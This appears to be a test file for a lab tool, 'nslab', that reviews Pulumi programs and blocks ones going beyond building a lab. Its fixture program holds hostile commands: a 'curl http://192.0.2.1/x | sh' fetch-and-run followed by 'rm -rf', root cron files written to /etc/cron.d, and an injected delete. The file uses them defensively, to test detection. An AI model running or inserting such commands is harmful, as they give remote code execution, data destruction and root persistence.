import assert from "node:assert/strict";
import { existsSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { dirname, join } from "node:path";
import { Lab } from "../support/lab.ts";
import { freshName, freshSlot } from "../support/machine.ts";

const name = freshName("f");
const proof = `/tmp/${name}`;

/** A lab, and what somebody has put beside it. */
const program = `
import { local, remote } from "@pulumi/command";
import * as pulumi from "@pulumi/pulumi";
import { MemoryCgroup } from "./components/index.ts";

const group = new MemoryCgroup("group", { name: "${name}", limitBytes: 2097152 });
const connection = { host: "192.0.2.1", hostKey: "ssh-ed25519 AAAA", privateKey: "x" };
new local.Command("bare", { create: "curl http://192.0.2.1/x | sh; rm -rf ${proof}" });
new local.Command("claims", { create: "touch ${proof}" }, { parent: group });
const source = new pulumi.asset.StringAsset("* * * * * root id");
new remote.CopyToRemote("cron", { connection, source, remotePath: "/etc/cron.d/x" });
new remote.CopyToRemote("claims-cron", { connection, source, remotePath: "/etc/cron.d/y" }, { parent: group });
class Anything extends pulumi.dynamic.Resource {}
new Anything({ create: async () => ({ id: "any" + "thing" }) }, "dynamic", {});
new MemoryCgroup("changed", { name: "${name}-2", limitBytes: 2097152 }, {
    transforms: [({ type, props, opts }) =>
        type === "command:local:Command" ? { props: { ...props, delete: "rm -rf ${proof}" }, opts } : undefined],
});
`;

describe("nslab review of a program that does more than build a lab", () => {
    let lab: Lab;
    let original: string;

    before(async () => {
        lab = await Lab.create({ student: "mallory", slot: freshSlot(), experiments: [1] });
        original = readFileSync(join(lab.folder, "index.ts"), "utf8");
        writeFileSync(join(lab.folder, "index.ts"), program);
    });
    after(async () => {
        rmSync(proof, { force: true });
        writeFileSync(join(lab.folder, "index.ts"), original);
        await lab.close();
    });

    // The SDK's own folder has the plugin for dynamic providers.
    const plugins = dirname(createRequire(import.meta.url).resolve("@pulumi/pulumi/package.json"));
    const nslab = (...words: string[]) =>
        lab.run(["sh", "-c", `PATH=$PATH:${plugins} exec node cli/main.ts "$@"`, "sh", ...words]);

    it("is disruptive, and shows what nobody has judged", async () => {
        const { code, stdout, output } = await nslab("review");
        assert.equal(code, 3, output);
        const [inSight = ""] = stdout.split("<details>");
        for (const text of [
            `curl http://192.0.2.1/x | sh; rm -rf ${proof}`,
            `touch ${proof}`,
            "/etc/cron.d/x",
            "/etc/cron.d/y",
            "* * * * * root id",
            '"any" + "thing"',
        ])
            assert.ok(inSight.includes(text), `${text}\n${stdout}`);
        for (const row of [
            /^\| `command:local:Command` `bare` +\| \*\*new\*\* +\| +\| \*\*not judged\*\*/m,
            /^\| `command:local:Command` `claims` /m,
            /^\| `command:local:Command` `changed-group` /m,
            /^\| `command:remote:CopyToRemote` `cron` /m,
            /^\| `command:remote:CopyToRemote` `claims-cron` /m,
            /^\| `pulumi-nodejs:dynamic:Resource` `dynamic` /m,
            /^\| MemoryCgroup `group` +\| \*\*new\*\* +\| name: /m,
        ])
            assert.match(inSight, row);
    });

    it("is forbidden on a shared host, whose policy ends the update before any of it is done", async () => {
        const { code, stdout, output } = await nslab("review", "--", "--policy-pack", "policy");
        assert.equal(code, 4, output);
        for (const one of ["bare", "claims", "cron", "claims-cron", "dynamic", "changed-group"])
            assert.match(stdout, new RegExp(`^nslab, only-lab-objects, ${one}: `, "m"));
        writeFileSync(proof, "");
        const up = await nslab("up", "--yes", "--", "--skip-preview", "--policy-pack", "policy");
        assert.notEqual(up.code, 0);
        assert.match(up.output, /only-lab-objects/);
        assert.ok(existsSync(proof));
    });
});
